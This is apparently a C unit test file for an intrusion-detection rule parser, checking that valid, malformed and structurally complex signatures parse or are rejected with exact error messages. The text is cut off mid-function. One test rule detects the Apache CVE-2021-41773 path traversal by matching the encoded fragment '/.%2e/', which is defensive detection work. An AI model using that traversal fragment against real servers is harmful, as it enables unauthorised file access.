/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "vp_build.h"

#include <arpa/inet.h>
#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "signatures/classtype.h"
#include "signatures/rule.h"
#include "signatures/sig.h"
#include "signatures/vars.h"

/* ---- helpers ---- */

struct errs {
	unsigned n;
	char file[8][256];
	unsigned line[8];
	char msg[8][512];
};

static void collect_err(void *ctx, const char *file, unsigned line, const char *msg)
{
	struct errs *e = ctx;

	if (e->n < 8) {
		snprintf(e->file[e->n], sizeof(e->file[0]), "%s", file);
		e->line[e->n] = line;
		snprintf(e->msg[e->n], sizeof(e->msg[0]), "%s", msg);
	}
	e->n++;
}

static struct vp_vars *test_vars(void)
{
	struct vp_vars *v = vp_vars_new();

	ck_assert_ptr_nonnull(v);
	ck_assert_int_eq(vp_vars_set(v, "HOME_NET", "[10.0.0.0/8, 192.168.0.0/16]"), 0);
	ck_assert_int_eq(vp_vars_set(v, "EXTERNAL_NET", "!$HOME_NET"), 0);
	ck_assert_int_eq(vp_vars_set(v, "HTTP_PORTS", "[80,8080]"), 0);
	ck_assert_int_eq(vp_vars_set(v, "V6NET", "[2001:db8::/32,!2001:db8:1::/48]"), 0);
	ck_assert_int_eq(vp_vars_set(v, "NESTED", "[$HOME_NET,!10.9.0.0/16]"), 0);
	ck_assert_int_eq(vp_vars_set(v, "LOOP", "$LOOP"), 0);
	ck_assert_int_eq(vp_vars_set(v, "BADCIDR", "[1.2.3.4,10.0.0.0/33]"), 0);
	ck_assert_int_eq(vp_vars_set(v, "ANYVAR", "any"), 0);
	return v;
}

static struct vp_sig_set *test_set(void)
{
	struct vp_vars *v = test_vars();
	struct vp_sig_set *set = vp_sig_set_new(v);

	vp_vars_free(v);
	ck_assert_ptr_nonnull(set);
	return set;
}

/* ---- valid rules and their fields ---- */

static const struct valid_case {
	const char *rule;
	uint32_t gid, sid, rev;
	enum vp_sig_action action;
	int priority;
	const char *msg, *classtype, *category, *meta;
} valid_cases[] = {
	{ "drop http $EXTERNAL_NET any -> $HOME_NET $HTTP_PORTS (msg:\"Apache 2.4.49 path "
	  "traversal (CVE-2021-41773)\"; flow:established,to_server; content:\"/.%2e/\"; nocase; "
	  "reference:cve,2021-41773; classtype:web-application-attack; sid:1000001; rev:1; "
	  "metadata: affected_package apache2, affected_versions \"2.4.49\", "
	  "fixed_version 2.4.51;)",
	  1, 1000001, 1, VP_ACT_DROP, 1, "Apache 2.4.49 path traversal (CVE-2021-41773)",
	  "web-application-attack", "Web Application Attack",
	  "{\"cve\":[\"CVE-2021-41773\"],\"affected_package\":[\"apache2\"],"
	  "\"affected_versions\":[\"2.4.49\"],\"fixed_version\":[\"2.4.51\"]}" },
	{ "alert tcp any any -> any any (sid:5;)", 1, 5, 0, VP_ACT_ALERT, 3, NULL, NULL, NULL,
	  NULL },
	{ "pass ip any any -> any any (sid:6; rev:7; gid:3;)", 3, 6, 7, VP_ACT_PASS, 3, NULL, NULL,
	  NULL, NULL },
	{ "reject udp any any -> any 53 (sid:7; classtype:misc-activity;)", 1, 7, 0, VP_ACT_REJECT,
	  3, NULL, "misc-activity", "Misc activity", NULL },
	{ "rejectboth tcp any any -> any any (sid:8; priority:2; classtype:trojan-activity;)", 1, 8,
	  0, VP_ACT_REJECT, 2, NULL, "trojan-activity", "A Network Trojan was detected", NULL },
	{ "alert tcp any any -> any any (classtype:attempted-recon; priority:9; sid:9;)", 1, 9, 0,
	  VP_ACT_ALERT, 9, NULL, "attempted-recon", "Attempted Information Leak", NULL },
	{ "alert tcp any any -> any any (msg:\"a \\\"q\\\" \\; s \\\\ b: c\"; sid:10;)", 1, 10, 0,
	  VP_ACT_ALERT, 3, "a \"q\" ; s \\ b: c", NULL, NULL, NULL },
	{ "alert tcp any any -> any any (sid:11; metadata:key \"v,1\", key v2, "
	  "other \"x\\\"y\\\\\", "
	  "tab \"a\tb\", hi \"\xff\xc3\xa9\";)", 1, 11, 0, VP_ACT_ALERT, 3, NULL, NULL, NULL,
	  "{\"key\":[\"v,1\",\"v2\"],\"other\":[\"x\\\"y\\\\\"],\"tab\":[\"a\\u0009b\"],"
	  "\"hi\":[\"\\u00ff\xc3\xa9\"]}" },
	{ "alert tcp any any -> any any (sid:12; reference:url,example.test/a; "
	  "reference:cve,CVE-2014-6271; reference: cve , 2014-7169 ; metadata:cve CVE-1999-0001;)",
	  1, 12, 0, VP_ACT_ALERT, 3, NULL, NULL, NULL,
	  "{\"cve\":[\"CVE-2014-6271\",\"CVE-2014-7169\",\"CVE-1999-0001\"]}" },
	{ "alert tcp-pkt [10.0.0.0/8,!10.1.0.0/16] [1024:,!2000] <> $V6NET [80,8000:8100] "
	  "(content:!\"a|41 42|b\"; content:\"x\"; nocase; pcre:\"/y\\;z\\\"/smixAEGR\"; "
	  "pcre:!\"/q/B\"; flow:stateless; sid:13;)", 1, 13, 0, VP_ACT_ALERT, 3, NULL, NULL, NULL,
	  NULL },
	{ "alert icmp $NESTED any -> ![1.2.3.4,5.6.7.0/24] $ANYVAR (sid:14;)", 1, 14, 0,
	  VP_ACT_ALERT, 3, NULL, NULL, NULL, NULL },
	{ "  alert   TCP  any  :1023  ->  10.0.0.0/255.0.0.0  [ 80 , 443 ]  "
	  "( sid : 15 ; msg:x y;  )  ",
	  1, 15, 0, VP_ACT_ALERT, 3, "x y", NULL, NULL, NULL },
	{ "alert udp any any -> any any (sid:16; flow:to_client,not_established;)", 1, 16, 0,
	  VP_ACT_ALERT, 3, NULL, NULL, NULL, NULL },
};

static void ck_str_or_null(const char *got, const char *want)
{
	if (!want)
		ck_assert_ptr_null(got);
	else
		ck_assert_str_eq(got, want);
}

START_TEST(test_valid)
{
	const struct valid_case *tc = &valid_cases[_i];
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	const struct vp_sig *sig;

	ck_assert_int_eq(vp_sig_set_add(set, tc->rule, "t.rules", 42, collect_err, &e), 0);
	ck_assert_uint_eq(e.n, 0);
	ck_assert_uint_eq(vp_sig_set_count(set), 1);
	sig = vp_sig_set_get(set, 0);
	ck_assert_ptr_nonnull(sig);
	ck_assert_uint_eq(sig->gid, tc->gid);
	ck_assert_uint_eq(sig->sid, tc->sid);
	ck_assert_uint_eq(sig->rev, tc->rev);
	ck_assert_int_eq(sig->action, tc->action);
	ck_assert_int_eq(sig->priority, tc->priority);
	ck_str_or_null(sig->msg, tc->msg);
	ck_str_or_null(sig->classtype, tc->classtype);
	ck_str_or_null(sig->category, tc->category);
	ck_str_or_null(sig->metadata_json, tc->meta);
	ck_assert_str_eq(sig->file, "t.rules");
	ck_assert_uint_eq(sig->line, 42);
	ck_assert_ptr_null(vp_sig_set_get(set, 1));
	ck_assert_int_eq(vp_sig_set_compile(set, collect_err, &e), 0);
	vp_sig_set_free(set);
}
END_TEST

/* ---- invalid rules and their exact messages ---- */

#define H "alert tcp any any -> any any "
#define HH "alert http any any -> any any "
#define N(a) ((int)(sizeof(a) / sizeof((a)[0])))

static const struct invalid_case {
	const char *rule, *msg;
} invalid_cases[] = {
	{ "", "empty rule" },
	{ "   ", "empty rule" },
	{ "alert tcp any any -> any", "incomplete rule header" },
	{ "alert tcp any any -> any (sid:1;)", "incomplete rule header" },
	{ "alert tcp any any -> any any", "rule has no options" },
	{ "alert tcp any any -> any any sid:1;",
	  "expected '(' after the rule header, got 'sid:1;'" },
	{ H "(sid:1;", "missing ')' at the end of the rule" },
	{ H "(sid:1;) junk", "missing ')' at the end of the rule" },
	{ "foo tcp any any -> any any (sid:1;)", "bad action 'foo'" },
	{ "alert sctp any any -> any any (sid:1;)", "bad protocol 'sctp'" },
	{ "alert tcp any any <- any any (sid:1;)", "bad direction '<-'" },
	{ "alert tcp 10.0.0.0/33 any -> any any (sid:1;)", "bad CIDR '10.0.0.0/33'" },
	{ "alert tcp 10.0.0.0/255.0.255.0 any -> any any (sid:1;)",
	  "bad CIDR '10.0.0.0/255.0.255.0'" },
	{ "alert tcp 2001:db8::/129 any -> any any (sid:1;)", "bad CIDR '2001:db8::/129'" },
	{ "alert tcp 10.0.0.300 any -> any any (sid:1;)", "bad address '10.0.0.300'" },
	{ "alert tcp [1.2.3.4,2001:db8::g] any -> any any (sid:1;)", "bad address '2001:db8::g'" },
	{ "alert tcp [10.0.0.0/8]] any -> any any (sid:1;)",
	  "unbalanced brackets in '[10.0.0.0/8]]'" },
	{ "alert tcp [1.2.3.4,] any -> any any (sid:1;)", "empty address" },
	{ "alert tcp !any any -> any any (sid:1;)", "'!any' matches nothing" },
	{ "alert tcp !!1.2.3.4 any -> any any (sid:1;)", "bad address '!!1.2.3.4'" },
	{ "alert tcp any 90:80 -> any any (sid:1;)", "bad port range '90:80'" },
	{ "alert tcp any 1:2:3 -> any any (sid:1;)", "bad port range '1:2:3'" },
	{ "alert tcp any : -> any any (sid:1;)", "bad port range ':'" },
	{ "alert tcp any 70000 -> any any (sid:1;)", "bad port '70000'" },
	{ "alert tcp any [80,http] -> any any (sid:1;)", "bad port 'http'" },
	{ "alert tcp $NOPE any -> any any (sid:1;)", "undefined variable '$NOPE'" },
	{ "alert tcp any any -> any $NOPE_PORTS (sid:1;)", "undefined variable '$NOPE_PORTS'" },
	{ "alert tcp $LOOP any -> any any (sid:1;)",
	  "variable '$LOOP' nested too deep (in $LOOP)" },
	{ "alert tcp $BADCIDR any -> any any (sid:1;)", "bad CIDR '10.0.0.0/33' (in $BADCIDR)" },
	{ "alert tcp $HOME-NET any -> any any (sid:1;)", "bad variable name '$HOME-NET'" },
	{ "alert icmp any 80 -> any any (sid:1;)",
	  "ports must be 'any' for protocol 'icmp', got '80'" },
	{ "alert icmp any any -> any [80,81] (sid:1;)",
	  "ports must be 'any' for protocol 'icmp', got '[80,81]'" },
	{ H "(foo; sid:1;)", "unsupported keyword 'foo'" },
	{ H "(dns.query; content:\"x\"; sid:1;)", "unsupported keyword 'dns.query'" },
	{ H "(content:\"x\"; xbits:set,a,track ip_src; sid:1;)", "unsupported keyword 'xbits'" },
	{ H "(msg \"x\"; sid:1;)", "bad option 'msg \"x\"'" },
	{ H "(content:\"|4g|\"; sid:1;)", "bad hex in content '|4g|'" },
	{ H "(content:\"|41 4|\"; sid:1;)", "bad hex in content '|41 4|'" },
	{ H "(content:\"a|41\"; sid:1;)", "unterminated hex in content 'a|41'" },
	{ H "(content:\"abc; sid:1;)", "unterminated string in content" },
	{ H "(content:\"abc\\\"; sid:1;)", "unterminated string in content" },
	{ H "(msg:\"abc; sid:1;)", "unterminated string in msg" },
	{ H "(content:abc; sid:1;)", "content must be a quoted string: 'abc'" },
	{ H "(content:\"a\"b; sid:1;)", "unexpected text after content string: 'b'" },
	{ H "(content:\"\"; sid:1;)", "empty content" },
	{ H "(content:\"a\\x\"; sid:1;)", "bad escape in content 'a\\x'" },
	{ H "(content; sid:1;)", "keyword 'content' needs a value" },
	{ H "(pcre:\"/a(/\"; sid:1;)", "bad pcre '/a(/': missing closing parenthesis at offset 2" },
	{ H "(pcre:\"/a/UH\"; sid:1;)", "pcre modifiers 'U' and 'H' select different buffers" },
	{ H "(pcre:\"/a/BU\"; sid:1;)", "pcre modifier 'B' conflicts with 'U'" },
	{ H "(pcre:\"/a/q\"; sid:1;)", "unknown pcre modifier 'q'" },
	{ H "(pcre:\"abc\"; sid:1;)", "pcre must look like \"/regex/flags\": 'abc'" },
	{ H "(pcre:\"/abc\"; sid:1;)", "pcre must look like \"/regex/flags\": '/abc'" },
	{ H "(pcre:\"/a/R\"; sid:1;)", "pcre R modifier needs a preceding content or pcre" },
	{ H "(content:\"b\"; http_uri; pcre:\"/a/R\"; sid:1;)",
	  "pcre R modifier needs a preceding content or pcre" },
	{ H "(nocase; sid:1;)", "nocase needs a preceding content" },
	{ H "(pcre:\"/a/\"; nocase; sid:1;)", "nocase needs a preceding content" },
	{ H "(content:\"a\"; nocase; nocase; sid:1;)", "duplicate nocase for one content" },
	{ H "(content:\"a\"; nocase:1; sid:1;)", "keyword 'nocase' takes no value" },
	{ H "(msg:\"x\";)", "rule has no sid" },
	{ H "()", "rule has no sid" },
	{ H "(sid:0;)", "bad sid '0'" },
	{ H "(sid:abc;)", "bad sid 'abc'" },
	{ H "(sid:4294967296;)", "bad sid '4294967296'" },
	{ H "(sid:-1;)", "bad sid '-1'" },
	{ H "(sid:1; sid:2;)", "duplicate keyword 'sid'" },
	{ H "(sid;)", "keyword 'sid' needs a value" },
	{ H "(sid:1; rev:x;)", "bad rev 'x'" },
	{ H "(sid:1; gid:0;)", "bad gid '0'" },
	{ H "(classtype:foo; sid:1;)", "unknown classtype 'foo'" },
	{ H "(priority:0; sid:1;)", "bad priority '0'" },
	{ H "(priority:256; sid:1;)", "bad priority '256'" },
	{ H "(reference:cve; sid:1;)", "bad reference 'cve'" },
	{ H "(reference:cve,; sid:1;)", "bad reference 'cve,'" },
	{ H "(metadata:foo; sid:1;)", "bad metadata 'foo'" },
	{ H "(metadata:a b, c \"d; sid:1;)", "unterminated string in metadata" },
	{ H "(flow:to_server,to_client; sid:1;)",
	  "conflicting flow options 'to_server,to_client'" },
	{ H "(flow:established,not_established; sid:1;)",
	  "conflicting flow options 'established,not_established'" },
	{ H "(flow:sideways; sid:1;)", "bad flow option 'sideways'" },
	{ H "(flow:only_frag; sid:1;)", "unsupported flow option 'only_frag'" },
	{ H "(flow:to_server; flow:established; sid:1;)", "duplicate keyword 'flow'" },
	{ H "(flow:only_stream,no_stream; sid:1;)",
	  "flow:no_stream conflicts with an earlier packet/stream choice" },
	{ "alert tcp-pkt any any -> any any (flow:only_stream; sid:1;)",
	  "flow:only_stream conflicts with an earlier packet/stream choice" },
	/* option splitting: a ';' ends the option unless escaped, even inside quotes */
	{ H "(pcre:\"/a;b/\"; sid:1;)", "unterminated string in pcre" },
	{ H "(pcre:\"/a/\"x; sid:1;)", "unexpected text after pcre string: 'x'" },
	{ H "(pcre:/a/; sid:1;)", "pcre must be a quoted string: '/a/'" },
	/* content modifiers */
	{ H "(content:\"abc\"; depth:2; sid:1;)", "depth 2 is smaller than the content length 3" },
	{ H "(content:\"abc\"; within:2; sid:1;)",
	  "within 2 is smaller than the content length 3" },
	{ H "(content:\"a\"; content:\"b\"; depth:4; distance:1; sid:1;)",
	  "depth/offset cannot be combined with distance/within on one content" },
	{ H "(content:\"a\"; content:\"b\"; within:4; offset:1; sid:1;)",
	  "depth/offset cannot be combined with distance/within on one content" },
	{ H "(content:\"a\"; depth:4; depth:5; sid:1;)", "duplicate depth for one content" },
	{ H "(content:\"a\"; startswith; offset:1; sid:1;)",
	  "startswith cannot be combined with depth, offset, distance or within" },
	{ H "(content:\"a\"; distance:1; startswith; sid:1;)",
	  "startswith cannot be combined with depth, offset, distance or within" },
	{ H "(content:\"a\"; startswith; startswith; sid:1;)",
	  "duplicate startswith for one content" },
	{ H "(content:\"a\"; endswith; endswith; sid:1;)", "duplicate endswith for one content" },
	{ H "(depth:3; sid:1;)", "depth needs a preceding content" },
	{ H "(content:\"a\"; depth:x; sid:1;)", "unknown variable 'x' in depth" },
	{ H "(content:\"a\"; depth:-1; sid:1;)", "bad depth '-1'" },
	{ H "(content:\"a\"; depth:0; sid:1;)", "bad depth '0'" },
	{ H "(content:\"a\"; offset:-1; sid:1;)", "bad offset '-1'" },
	{ H "(content:\"a\"; distance:2000000; sid:1;)", "bad distance '2000000'" },
	{ H "(content:\"a\"; within:0; sid:1;)", "bad within '0'" },
	{ H "(content:\"a\"; fast_pattern; content:\"b\"; fast_pattern; sid:1;)",
	  "fast_pattern used on more than one content" },
	{ H "(content:\"abc\"; fast_pattern:2,5; sid:1;)",
	  "fast_pattern 2,5 is beyond the content length 3" },
	{ H "(content:\"abc\"; fast_pattern:x; sid:1;)", "bad fast_pattern 'x'" },
	{ H "(content:\"abc\"; fast_pattern:1,0; sid:1;)", "bad fast_pattern '1,0'" },
	{ H "(content:\"a\"; content:!\"b\"; distance:0; fast_pattern; sid:1;)",
	  "fast_pattern cannot be used on a negated content with depth, offset, distance or "
	  "within" },
	{ H "(content:\"a\"; http.uri; nocase; sid:1;)", "nocase needs a preceding content" },
	{ H "(rawbytes; sid:1;)", "rawbytes needs a preceding content" },
	/* buffers */
	{ H "(http.uri:1; content:\"a\"; sid:1;)", "keyword 'http.uri' takes no value" },
	{ H "(http.uri; content:\"a\"; http_uri; sid:1;)",
	  "http_uri cannot follow a sticky buffer (use pkt_data first)" },
	{ H "(http_uri; sid:1;)", "http_uri needs a preceding content" },
	{ H "(content:\"a\"; http_uri; http_header; sid:1;)",
	  "http_header: the content already inspects http.uri" },
	{ H "(http.uri; uricontent:\"a\"; sid:1;)",
	  "uricontent cannot follow a sticky buffer (use pkt_data first)" },
	{ H "(http.host; content:\"Example\"; sid:1;)",
	  "content on http.host has upper-case characters (the buffer is lower case): use nocase" },
	{ H "(content:\"Ex\"; http_host; sid:1;)",
	  "content on http.host has upper-case characters (the buffer is lower case): use nocase" },
	{ H "(pcre:\"/Example/W\"; sid:1;)",
	  "pcre on http.host has upper-case characters (the buffer is lower case)" },
	{ H "(http.uri; pcre:\"/a/H\"; sid:1;)",
	  "pcre modifier 'H' cannot follow a sticky buffer (use pkt_data first)" },
	{ "alert udp any any -> any any (http.uri; content:\"a\"; sid:1;)",
	  "http.uri needs protocol tcp or http" },
	/* isdataat, bsize, urilen, dsize */
	{ H "(isdataat:x; sid:1;)", "unknown variable 'x' in isdataat" },
	{ H "(isdataat:5,foo; sid:1;)", "bad isdataat option 'foo'" },
	{ H "(isdataat:70000; sid:1;)", "bad isdataat '70000'" },
	{ H "(content:\"a\"; bsize:3; sid:1;)", "bsize needs a sticky buffer" },
	{ H "(http.uri; bsize:x; sid:1;)", "bad bsize 'x'" },
	{ H "(http.uri; bsize:5<>3; sid:1;)", "bad bsize '5<>3'" },
	{ H "(urilen:5,foo; sid:1;)", "bad urilen option 'foo'" },
	{ H "(urilen:>x; sid:1;)", "bad urilen '>x'" },
	{ H "(urilen:1; urilen:2; sid:1;)", "duplicate keyword 'urilen'" },
	{ H "(dsize:70000; sid:1;)", "bad dsize '70000'" },
	{ H "(flow:only_stream; dsize:5; sid:1;)", "dsize conflicts with stream inspection" },
	{ H "(dsize:5; flow:only_stream; sid:1;)",
	  "flow:only_stream conflicts with an earlier packet/stream choice" },
	{ "alert tcp-stream any any -> any any (dsize:4; sid:1;)",
	  "dsize conflicts with stream inspection" },
	/* byte_test, byte_jump, byte_extract */
	{ H "(byte_test:2,=,1; sid:1;)", "byte_test needs at least 4 values: '2,=,1'" },
	{ H "(byte_test:9,=,1,0; sid:1;)", "byte_test cannot read 9 bytes (max 8)" },
	{ H "(byte_test:21,=,1,0,string,dec; sid:1;)",
	  "byte_test cannot read 21 bytes as a string (max 20)" },
	{ H "(byte_test:0,=,1,0; sid:1;)",
	  "byte_test: 0 bytes is only allowed for byte_test with string" },
	{ H "(byte_test:x,=,1,0; sid:1;)", "bad byte_test bytes 'x'" },
	{ H "(byte_test:2,=~,1,0; sid:1;)", "bad byte_test operator '=~'" },
	{ H "(byte_test:2,=,x,0; sid:1;)", "unknown variable 'x' in byte_test value" },
	{ H "(byte_test:2,=,1,0,dce; sid:1;)",
	  "byte_test option 'dce' needs DCE/RPC (unsupported)" },
	{ H "(byte_test:2,=,1,0,foo; sid:1;)", "bad byte_test option 'foo'" },
	{ H "(byte_test:2,=,1,0,bitmask 0; sid:1;)", "bad byte_test option 'bitmask 0'" },
	{ H "(byte_jump:2; sid:1;)", "byte_jump needs at least 2 values: '2'" },
	{ H "(byte_jump:2,0,from_beginning,from_end; sid:1;)",
	  "byte_jump: from_beginning and from_end conflict" },
	{ H "(byte_jump:2,0,multiplier 0; sid:1;)", "bad byte_jump option 'multiplier 0'" },
	{ H "(byte_jump:2,0,post_offset x; sid:1;)", "bad byte_jump option 'post_offset x'" },
	{ H "(byte_jump:0,0; sid:1;)",
	  "byte_jump: 0 bytes is only allowed for byte_test with string" },
	{ H "(byte_extract:2,0,1x; sid:1;)", "bad byte_extract variable name '1x'" },
	{ H "(byte_extract:1,0,v; byte_extract:1,1,v; sid:1;)",
	  "duplicate byte_extract variable 'v'" },
	{ H "(byte_extract:1,0,v,align 3; sid:1;)", "bad byte_extract option 'align 3'" },
	{ H "(byte_extract:1,0,v; http.uri; content:\"a\"; depth:v; sid:1;)",
	  "byte_extract variable 'v' used in another buffer" },
	{ H "(byte_extract:1,0,a; byte_extract:1,0,b; byte_extract:1,0,c; byte_extract:1,0,d; "
	  "byte_extract:1,0,e; byte_extract:1,0,f; byte_extract:1,0,g; byte_extract:1,0,h; "
	  "byte_extract:1,0,i; sid:1;)", "too many byte_extract variables (max 8)" },
	/* flowbits, threshold */
	{ H "(flowbits:set; sid:1;)", "bad flowbits 'set'" },
	{ H "(flowbits:sett,a; sid:1;)", "bad flowbits command 'sett'" },
	{ H "(flowbits:set,a|b; sid:1;)", "bad flowbits name 'a|b'" },
	{ H "(flowbits:isset,a b; sid:1;)", "bad flowbits name 'a b'" },
	{ H "(flowbits:isset,a,b; sid:1;)", "bad flowbits 'isset,a,b'" },
	{ H "(threshold:type limit, track by_src, count 1; sid:1;)",
	  "threshold needs type, track, count and seconds" },
	{ H "(threshold:type backoff, track by_flow, count 1, multiplier 10; sid:1;)",
	  "unsupported threshold type 'backoff'" },
	{ H "(threshold:type limit, track by_flow, count 1, seconds 60; sid:1;)",
	  "unsupported threshold track 'by_flow'" },
	{ H "(threshold:type limit, track by_src, count 0, seconds 60; sid:1;)",
	  "bad threshold option '0'" },
	{ H "(threshold:type limit, track by_src, count 1, seconds 1, count 2; sid:1;)",
	  "bad threshold option 'count'" },
	{ H "(detection_filter:type limit, track by_src, count 1, seconds 60; sid:1;)",
	  "bad detection_filter option 'type'" },
	{ H "(detection_filter:track by_src, count 1; sid:1;)",
	  "detection_filter needs track, count and seconds" },
	{ H "(threshold:type limit, track by_src, count 1, seconds 60; "
	  "detection_filter:track by_src, count 1, seconds 60; sid:1;)",
	  "threshold and detection_filter cannot be combined" },
	/* header keywords */
	{ H "(flags:X; sid:1;)", "bad flags 'X'" },
	{ H "(flags:S,Q; sid:1;)", "bad flags mask 'S,Q'" },
	{ H "(flags:+*S; sid:1;)", "bad flags '+*S'" },
	{ H "(flags:0S; sid:1;)", "bad flags '0S'" },
	{ H "(ttl:300; sid:1;)", "bad ttl '300'" },
	{ H "(ttl:1; ttl:2; sid:1;)", "duplicate keyword 'ttl'" },
	{ H "(itype:5-3; sid:1;)", "bad itype '5-3'" },
	{ H "(icode:>; sid:1;)", "bad icode '>'" },
	{ H "(ip_proto:foo; sid:1;)", "bad ip_proto 'foo'" },
	{ H "(ip_proto:300; sid:1;)", "bad ip_proto '300'" },
	{ H "(sameip:1; sid:1;)", "keyword 'sameip' takes no value" },
	{ H "(target:foo; sid:1;)", "bad target 'foo'" },
	{ H "(base64_decode; sid:1;)", "unsupported keyword 'base64_decode'" },
};

START_TEST(test_invalid)
{
	const struct invalid_case *tc = &invalid_cases[_i];
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };

	ck_assert_int_eq(vp_sig_set_add(set, tc->rule, "bad.rules", 7, collect_err, &e), -EINVAL);
	ck_assert_uint_eq(e.n, 1);
	ck_assert_str_eq(e.msg[0], tc->msg);
	ck_assert_str_eq(e.file[0], "bad.rules");
	ck_assert_uint_eq(e.line[0], 7);
	ck_assert_uint_eq(vp_sig_set_count(set), 0);
	vp_sig_set_free(set);
}
END_TEST

/* ---- the parsed form: buffers, elements, modifiers, fast pattern ---- */

static void describe_content(char *out, size_t cap, const struct vp_content *c)
{
	size_t l = strlen(out), i;

	l += (size_t)snprintf(out + l, cap - l, "c%s(", (c->flags & VP_CT_NEGATED) ? "!" : "");
	for (i = 0; i < c->len && l + 4 < cap; i++)
		l += (size_t)snprintf(out + l, cap - l, c->pat[i] > 0x20 && c->pat[i] < 0x7f ?
				      "%c" : "|%02x|", c->pat[i]);
	snprintf(out + l, cap - l, "%s%s%s%s%s%s%s)", (c->flags & VP_CT_NOCASE) ? ",i" : "",
		 (c->flags & VP_CT_DEPTH) ? ",depth" : "", (c->flags & VP_CT_OFFSET) ? ",off" : "",
		 (c->flags & VP_CT_DISTANCE) ? ",dist" : "",
		 (c->flags & VP_CT_WITHIN) ? ",within" : "",
		 (c->flags & VP_CT_STARTSWITH) ? ",sw" : "",
		 (c->flags & VP_CT_ENDSWITH) ? ",ew" : "");
}

static void describe_elem(char *out, size_t cap, const struct vp_elem *e)
{
	static const char *const names[] = { [VP_EL_PCRE] = "pcre", [VP_EL_ISDATAAT] = "isdataat",
					     [VP_EL_BYTE_TEST] = "byte_test",
					     [VP_EL_BYTE_JUMP] = "byte_jump",
					     [VP_EL_BYTE_EXTRACT] = "byte_extract",
					     [VP_EL_BSIZE] = "bsize" };
	size_t l = strlen(out);

	if (e->kind == VP_EL_CONTENT)
		describe_content(out, cap, &e->u.c);
	else
		snprintf(out + l, cap - l, "%s%s", names[e->kind],
			 e->kind == VP_EL_PCRE && e->u.re.relative ? "R" : "");
	l = strlen(out);
	snprintf(out + l, cap - l, "%s ", e->retry ? "+" : "");
}

/* "buffer: elements ... | ... fp=buffer/element raw=mode" */
static void describe(const struct vp_rule *r, char *out, size_t cap)
{
	size_t l;
	unsigned i, j;

	out[0] = '\0';
	for (i = 0; i < r->nlists; i++) {
		l = strlen(out);
		snprintf(out + l, cap - l, "%s%s: ", i ? "| " : "",
			 vp_rule_buffer_name(r->lists[i].buf));
		for (j = 0; j < r->lists[i].n; j++)
			describe_elem(out, cap, &r->lists[i].e[j]);
	}
	l = strlen(out);
	if (r->fp_list >= 0)
		snprintf(out + l, cap - l, "fp=%s/%d raw=%u",
			 vp_rule_buffer_name(r->lists[r->fp_list].buf), r->fp_elem, r->raw_mode);
	else
		snprintf(out + l, cap - l, "fp=none raw=%u", r->raw_mode);
}

static const struct struct_case {
	const char *rule, *want;
} struct_cases[] = {
	{ H "(content:\"ab\"; nocase; depth:4; content:\"cd\"; distance:1; within:5; sid:1;)",
	  "pkt_data: c(ab,i,depth)+ c(cd,dist,within) fp=pkt_data/0 raw=0" },
	/* legacy modifiers move the content; later modifiers still apply to it */
	{ H "(content:\"GET\"; http_method; content:\"/x\"; http_uri; nocase; "
	  "content:\"y\"; sid:1;)",
	  "pkt_data: c(y) | http.method: c(GET) | http.uri: c(/x,i) fp=http.uri/0 raw=0" },
	/* sticky buffers, pkt_data; bsize first; app-layer buffers win the fast pattern */
	{ HH "(http.uri; content:\"/abcdef\"; bsize:7; pkt_data; content:\"longer-payload\"; "
	  "http.method; content:\"POSTPOSTPOST\"; sid:1;)",
	  "http.uri: bsize c(/abcdef) | pkt_data: c(longer-payload) | http.method: c(POSTPOSTPOST) "
	  "fp=http.uri/1 raw=0" },
	/* the payload wins over the method; longest; then the more varied pattern */
	{ HH "(http.method; content:\"POST\"; pkt_data; content:\"ab\"; sid:1;)",
	  "http.method: c(POST) | pkt_data: c(ab) fp=pkt_data/0 raw=0" },
	{ H "(content:\"aaaa\"; content:\"abcd\"; content:\"abc\"; sid:1;)",
	  "pkt_data: c(aaaa) c(abcd) c(abc) fp=pkt_data/1 raw=0" },
	{ H "(content:\"zzzzzz\"; content:\"abc\"; fast_pattern; sid:1;)",
	  "pkt_data: c(zzzzzz) c(abc) fp=pkt_data/1 raw=0" },
	{ H "(content:!\"abc\"; sid:1;)", "pkt_data: c!(abc) fp=none raw=0" },
	{ H "(content:!\"abcdef\"; content:\"x\"; sid:1;)",
	  "pkt_data: c!(abcdef) c(x) fp=pkt_data/1 raw=0" },
	/* a later match is tried only when something after depends on where it matched */
	{ H "(content:\"a\"; content:\"b\"; within:3; content:\"c\"; distance:0; sid:1;)",
	  "pkt_data: c(a)+ c(b,within) c(c,dist) fp=pkt_data/0 raw=0" },
	{ H "(content:\"a\"; content:!\"b\"; distance:0; sid:1;)",
	  "pkt_data: c(a)+ c!(b,dist) fp=pkt_data/0 raw=0" },
	{ H "(content:\"a\"; pcre:\"/^b/R\"; content:\"c\"; sid:1;)",
	  "pkt_data: c(a)+ pcreR c(c) fp=pkt_data/0 raw=0" },
	{ H "(content:\"a\"; byte_test:1,=,1,0,relative; sid:1;)",
	  "pkt_data: c(a)+ byte_test fp=pkt_data/0 raw=0" },
	{ H "(content:\"a\"; bsize:1; sid:1;)", NULL },
	/* relative byte keywords without a sticky buffer follow the last match's buffer */
	{ HH "(content:\"/a\"; http_uri; byte_jump:1,0,relative; isdataat:1,relative; "
	  "isdataat:2; sid:1;)",
	  "pkt_data: isdataat | http.uri: c(/a)+ byte_jump isdataat fp=http.uri/0 raw=0" },
	{ "alert tcp-pkt any any -> any any (content:\"|00 01|\"; startswith; endswith; sid:1;)",
	  "pkt_data: c(|00||01|,sw,ew) fp=pkt_data/0 raw=1" },
	{ H "(flow:only_stream; pcre:\"/x/\"; sid:1;)", "pkt_data: pcre fp=none raw=2" },
	{ H "(dsize:>5; urilen:3; sid:1;)", "http.uri: bsize fp=none raw=1" },
};

START_TEST(test_structure)
{
	const struct struct_case *tc = &struct_cases[_i];
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	char got[512];
	int ret = vp_sig_set_add(set, tc->rule, "s", 1, collect_err, &e);

	if (!tc->want) {
		ck_assert_int_eq(ret, -EINVAL);
	} else {
		ck_assert_msg(ret == 0, "%s", e.msg[0]);
		describe(vp_sig_set_get(set, 0)->priv, got, sizeof(got));
		ck_assert_str_eq(got, tc->want);
	}
	vp_sig_set_free(set);
}
END_TEST

START_TEST(test_too_many_elems)
{
	struct vp_sig_set *set = test_set();
	struct errs e = { 0 };
	char rule[2048];
